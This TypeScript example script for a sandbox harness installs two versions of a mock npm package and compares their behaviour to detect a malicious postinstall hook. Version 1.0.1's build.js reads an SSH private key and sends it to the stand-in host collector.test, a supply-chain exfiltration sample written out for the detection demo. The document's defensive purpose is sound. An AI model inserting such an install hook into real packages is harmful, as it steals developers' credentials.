/**
 * What does the install script of an npm package do? `npm run example -- install-script`.
 *
 * Two versions of a package are installed by npm, each in a sandbox of its own with a network that answers everything and leads
 * nowhere. The second does what the first did not: it reads a key, and sends it away.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as harness from 'barchan/harness';

const versions = {
  '1.0.0': `require('fs').writeFileSync('built.txt', 'built');`,
  '1.0.1': `const fs = require('fs');
fs.writeFileSync('built.txt', 'built');
const key = fs.readFileSync('/opt/home/.ssh/id_ed25519', 'utf8');
require('http').get('http://collector.test/?' + encodeURIComponent(key), (answer) => answer.resume());`,
};

async function install(version: string, script: string): Promise<harness.Verdict> {
  const folder = await mkdtemp(join(tmpdir(), 'install-'));
  try {
    const files = {
      'home/.ssh/id_ed25519': 'a key',
      'project/package.json': '{ "name": "project", "private": true }',
      'left-trim/package.json': JSON.stringify({
        name: 'left-trim',
        version,
        scripts: { postinstall: 'node build.js' },
      }),
      'left-trim/build.js': script,
    };
    for (const [name, text] of Object.entries(files)) {
      await mkdir(join(folder, name, '..'), { recursive: true });
      await writeFile(join(folder, name), text);
    }
    return await harness.run(
      { command: ['npm', 'install', '--install-links', '--no-audit', '--no-fund', '../left-trim'] },
      {
        name: `left-trim ${version}`,
        cwd: '/tmp/work/project',
        mounts: [
          { source: folder, target: '/tmp/work', readOnly: false },
          { source: join(folder, 'home'), target: '/opt/home' },
        ],
        env: { PATH: process.env.PATH, HOME: '/tmp/home' },
        network: 'virtual',
        timeoutMs: 120_000,
      },
    );
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

const [before, after] = await Promise.all(
  Object.entries(versions).map(([version, script]) => install(version, script)),
);
if (!before || !after) throw new Error('there are two versions');
for (const { sample, exit, contained, dropped } of [before, after]) {
  const built = dropped.some(({ path }) => path.endsWith('/left-trim/built.txt'));
  console.log(`${sample.name}: status ${exit.exitCode}, contained: ${contained}, built: ${built}`);
}
// Names of calls and npm's own files differ a little from run to run; whom it talks to and what it reads of others do not.
for (const { part, kind, text } of harness.compareBehaviour(
  harness.behaviour(before),
  harness.behaviour(after),
))
  if (kind === 'new' && (part === 'network' || text.startsWith('/opt/home')))
    console.log(`new, ${part}: ${JSON.stringify(text)}`);
for (const { host, sent } of after.flows.filter(({ service }) => service === 'http'))
  console.log(`sent to ${host}: ${JSON.stringify(Buffer.from(sent, 'base64').toString().split('\r\n')[0])}`);
